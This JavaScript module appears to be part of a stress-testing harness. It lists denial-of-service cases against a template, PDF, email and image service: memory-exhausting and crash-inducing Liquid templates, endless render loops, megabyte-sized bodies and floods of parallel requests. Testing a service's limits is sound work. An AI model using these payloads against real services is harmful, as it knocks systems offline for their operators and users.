import { encode, flood, idIn, loop, MIB, once, post, submit } from './client.mjs';

/** Attacks on processors and memory: templates, PDFs and images. */
export const COMPUTING = [
  {
    name: 'a template that fills its memory',
    run(attack) {
      const request = submit(attack.orgs[0], 'generate_pdf', { template: poison() });
      return flood(attack, 2, () => request);
    },
  },
  {
    name: 'a preview of 400 MiB',
    run: (attack) => preview(attack, 4, { kind: 'sms', body: WIDE_TEMPLATE, data: {} }),
  },
  {
    name: 'previews that never end',
    run: (attack) =>
      preview(attack, 32, {
        kind: 'sms',
        body: '{% for i in (1..100000000) %}{{ i }}{% endfor %}',
        data: { text: 'x'.repeat(MIB / 2) },
      }),
  },
  {
    name: 'a stored template that fills the memory at submission',
    async run(attack) {
      const [org] = attack.orgs;
      const template = { name: 'wide', kind: 'email', subject: 'wide', body: WIDE_TEMPLATE };
      await once(attack, post('/org/templates', org.session, template));
      const request = submit(org, 'send_email', { to: 'a@example.com', template: 'wide', data: {} });
      await flood(attack, 4, () => request);
    },
  },
  {
    name: 'email bodies of spaces',
    run(attack) {
      const body = `<a =${' '.repeat(MIB - 1_000)}`;
      const request = submit(attack.orgs[0], 'send_email', { to: 'a@example.com', subject: 'a', body });
      return flood(attack, 4, () => request);
    },
  },
  {
    name: 'PDFs of ten thousand rows',
    usesBrowser: true,
    run(attack) {
      const template = '<table>{% for i in (1..10000) %}<tr><td>{{ i }}</td></tr>{% endfor %}</table>';
      const request = submit(attack.orgs[0], 'generate_pdf', { template });
      return flood(attack, 8, () => request);
    },
  },
  {
    name: 'emails to a server that takes ten seconds',
    async run(attack) {
      const [org] = attack.orgs;
      const email = { to: 'a@slow.example', subject: 'a', body: 'a' };
      const [job, direct] = [submit(org, 'send_email', email), post('/email/send', org.credentials, encode(email))];
      await flood(attack, 64, (n) => (n % 2 === 0 ? job : direct));
    },
  },
  {
    name: 'images that are canceled',
    run: (attack) =>
      loop(attack, 4, async (call) => {
        const [org] = attack.orgs;
        const id = idIn(await call(...submit(org, 'compress_image', { url: `${attack.receiver}/picture` })));
        await new Promise((resolve) => setTimeout(resolve, 100));
        if (id) await call(...post(`/jobs/${id}/cancel`, org.credentials));
      }),
  },
];

const WIDE_TEMPLATE = `{% assign s = "xxxxxxxxxxxxxxxx" %}{% for i in (1..18) %}{% assign s = s | append: s %}{% endfor %}{% for i in (1..100) %}{{ s }}{% endfor %}`;

/** Returns a template that crashes the process that renders it: it captures large texts in turn and flattens each. */
function poison() {
  const text = 'x'.repeat(280_000);
  const round = (name) =>
    `{% capture ${name} %}{% for i in (1..170) %}${text}{% endfor %}{{ j }}{% endcapture %}{% if ${name} contains "z" %}{% endif %}`;
  return `{% for j in (1..3) %}${round('a')}${round('b')}${round('c')}{% endfor %}`;
}

function preview(attack, connections, template) {
  const body = encode(template);
  return flood(attack, connections, () => post('/org/templates/preview', attack.orgs[0].session, body));
}
